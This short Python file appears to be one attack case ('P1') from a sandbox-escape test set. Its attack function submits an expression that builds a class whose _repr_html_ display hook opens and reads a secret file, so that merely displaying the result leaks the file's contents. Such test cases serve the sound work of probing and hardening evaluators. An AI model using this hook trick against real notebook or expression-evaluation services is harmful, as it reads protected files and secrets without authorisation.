"""P1: a hook that display calls, on a class made in the expression."""


def attack(door):
    source = f"type('T', (), {{'_repr_html_': lambda s: open({door.secret!r}).read()}})()"
    door.value(source)
